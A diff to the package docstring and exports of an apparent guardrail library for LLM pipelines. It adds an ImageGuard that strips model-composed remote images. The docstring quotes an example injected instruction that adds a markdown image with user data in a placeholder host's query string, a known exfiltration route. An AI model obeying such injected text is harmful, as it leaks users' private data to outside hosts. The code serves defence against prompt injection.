@@ -9,7 +9,7 @@ stage into a ``GuardChain``; ``GuardChain.default()`` is what runs when nothing 
 input          InjectionGuard
 tool_call      CodeScanner
 tool_result    PIIRedactor, InjectionGuard
-output         PIIRedactor, CodeScanner
+output         ImageGuard, PIIRedactor, CodeScanner
 =============  ==============================================
 
 Llama Guard (input, tool_call, output), Prompt Guard (input, tool_result) and a ToolPolicy
@@ -17,6 +17,8 @@ Llama Guard (input, tool_call, output), Prompt Guard (input, tool_result) and a 
 ``ToolPolicy(provenance=True)`` refuses sensitive arguments copied only from tool results;
 ``ToolPolicy(intent=True)`` refuses acting calls (send, pay, delete, book ...) no user turn asked for;
 ``trusted(text)`` marks a pipeline's own text, which the injection detectors then skip.
+``ImageGuard`` removes remote images from answers when the model composed their address (an
+injected "add ![](https://host/?q=<data>)" leaks as soon as a chat UI renders it).
 
 Example::
 
@@ -28,6 +30,7 @@ Example::
 from .base import STAGES, Conversation, Guard, Stage, ToolCallPayload, Verdict
 from .chain import ChainResult, GuardChain
 from .code import CodeScanner, Finding, Rule
+from .images import ImageGuard
 from .injection import InjectionGuard
 from .intent import IntentRule
 from .llama_guard import LLAMA_GUARD_3_CATEGORIES, LlamaGuard
@@ -53,6 +56,7 @@ __all__ = [
     "Rule",
     "Finding",
     "PIIRedactor",
+    "ImageGuard",
     "ToolPolicy",
     "allowed_domains",
     "ProvenanceRule",
